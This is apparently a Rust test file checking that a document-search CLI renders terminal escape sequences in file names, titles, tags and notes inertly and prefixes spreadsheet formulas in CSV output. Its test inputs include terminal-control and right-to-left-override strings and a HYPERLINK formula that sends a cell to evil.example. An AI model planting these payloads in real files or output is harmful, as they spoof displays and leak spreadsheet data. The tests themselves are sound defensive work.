//! Names and titles that would act on a terminal or run in a spreadsheet.

use std::fs::File;
use std::io::Write;

use super::*;

/// Bytes that would act on a terminal: a title (OSC 0), a hyperlink (OSC 8), the clipboard
/// (OSC 52), a C1 control, and a right-to-left override that shows `txt.exe` as `exe.txt`.
const ESCAPES: &str = "\x1b]0;pwned\x07\x1b]8;;evil.example\x1b\\\u{9b}\u{202e}";

/// Whether `text` holds any of the bytes of [`ESCAPES`] raw.
fn acts_on_a_terminal(text: &str) -> bool {
    text.contains('\x1b')
        || text.contains('\x07')
        || text.contains('\u{9b}')
        || text.contains('\u{202e}')
}

#[test]
fn names_and_titles_reach_the_terminal_inert() {
    let env = Env::new();
    let name = format!("evil{ESCAPES}gpj.txt");
    std::fs::write(env.path("corpus").join(&name), "Maizuru escapes\n").expect("evil file");
    // A title with the same, as character references.
    let referenced: String = ESCAPES
        .chars()
        .map(|c| format!("&#x{:x};", u32::from(c)))
        .collect();
    std::fs::write(
        env.path("corpus/title.html"),
        format!("<title>Maizuru title {referenced}end</title><p>Maizuru titled</p>"),
    )
    .expect("title.html");
    // The same name as a ZIP member.
    let mut zip = zip::ZipWriter::new(File::create(env.path("corpus/evil.zip")).expect("zip"));
    zip.start_file(name.as_str(), zip::write::SimpleFileOptions::default())
        .expect("member");
    zip.write_all(b"Maizuru member").expect("member text");
    zip.finish().expect("zip");
    // A file that fails, for its failure line.
    std::fs::write(
        env.path("corpus").join(format!("bad{ESCAPES}.pdf")),
        b"%PDF-1.4 broken",
    )
    .expect("bad pdf");
    let mut outputs = Vec::new();
    let ingest = env.run(&["ingest", "-v"]);
    outputs.push(("ingest -v", ingest));
    outputs.push((
        "search",
        env.run(&["--color", "always", "search", "Maizuru", "-n", "50"]),
    ));
    let tag = format!("t{ESCAPES}");
    outputs.push((
        "tag add",
        env.run(&["tag", "add", &tag, "--query", "Maizuru"]),
    ));
    outputs.push(("tag list", env.run(&["tag", "list"])));
    let file = env.path("corpus").join(&name);
    let file = file.to_str().expect("UTF-8 path");
    outputs.push(("note", env.run(&["note", file, &format!("note {ESCAPES}")])));
    outputs.push(("search notes", env.run(&["search", "escapes"])));
    outputs.push((
        "watch add",
        env.run(&["watch", "add", &format!("w{ESCAPES}"), "Maizuru"]),
    ));
    outputs.push(("watch list", env.run(&["watch", "list"])));
    outputs.push(("watch", env.run(&["watch"])));
    std::fs::write(env.path("corpus").join(&name), "changed").expect("change it");
    outputs.push(("verify", env.run(&["verify"])));
    outputs.push(("status", env.run(&["status"])));
    for (what, out) in &outputs {
        let (stdout, stderr) = (stdout(out), stderr(out));
        // Colours are the only escapes, and only the SGR ones this program writes.
        let without_colours = stdout
            .split('\x1b')
            .enumerate()
            .map(|(i, piece)| {
                if i == 0 {
                    piece
                } else {
                    let end = piece.find('m').filter(|e| {
                        piece[..*e]
                            .bytes()
                            .all(|b| b == b'[' || b == b';' || b.is_ascii_digit())
                    });
                    end.map_or("\x1b", |e| &piece[e + 1..])
                }
            })
            .collect::<String>();
        assert!(
            !acts_on_a_terminal(&without_colours) && !acts_on_a_terminal(&stderr),
            "{what}:\n{stdout:?}\n{stderr:?}"
        );
    }
    let shown = |what: &str| {
        let (_, out) = outputs.iter().find(|(w, _)| *w == what).expect("output");
        format!("{}{}", stdout(out), stderr(out))
    };
    // Shown visibly, not dropped: the name on screen is still the name on disk.
    for (what, expected) in [
        ("ingest -v", "evil\\u{1b}]0;pwned\\u{7}"),
        ("ingest -v", "bad\\u{1b}]0;pwned"),
        ("search", "\\u{202e}gpj.txt"),
        ("search", "evil.zip!/evil\\u{1b}"),
        // html5ever drops ESC and BEL from a title itself; the override is left to escape.
        ("search", "Maizuru title ]0;pwned"),
        ("search", "\\u{202e}end"),
        ("tag list", "t\\u{1b}]0;pwned"),
        ("search notes", "note: note \\u{1b}"),
        ("watch list", "w\\u{1b}]0;pwned"),
        ("verify", "changed    "),
    ] {
        assert!(
            shown(what).contains(expected),
            "{what}: {expected}\n{}",
            shown(what)
        );
    }
}

#[test]
fn csv_cells_that_spreadsheets_would_run_are_text() {
    let env = Env::new();
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    std::fs::write(
        env.path("corpus/formula.html"),
        format!(
            "<html><head><title>{formula}</title></head><body><p>+SUM(A1:A9) Maizuru \
             formulas</p></body></html>"
        ),
    )
    .expect("formula.html");
    let csv_rows = |args: &[&str]| -> Vec<csv::StringRecord> {
        let out = env.run(&[&["search", "formulas", "--format", "csv"][..], args].concat());
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        csv::Reader::from_reader(out.stdout.as_slice())
            .records()
            .collect::<Result<_, _>>()
            .expect("CSV")
    };
    let rows = csv_rows(&[]);
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][7], format!("'{formula}"), "the title");
    assert!(
        rows[0][14].starts_with("'+SUM(A1:A9)"),
        "the snippet: {}",
        &rows[0][14]
    );
    for cell in rows[0].iter() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?}"
        );
    }
    // Asked for, the bytes as they are; JSON lines never changed.
    assert_eq!(&csv_rows(&["--csv-raw"])[0][7], formula);
    let out = env.run(&["search", "formulas", "--format", "jsonl"]);
    let line: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON line");
    assert_eq!(line["title"], formula);
}
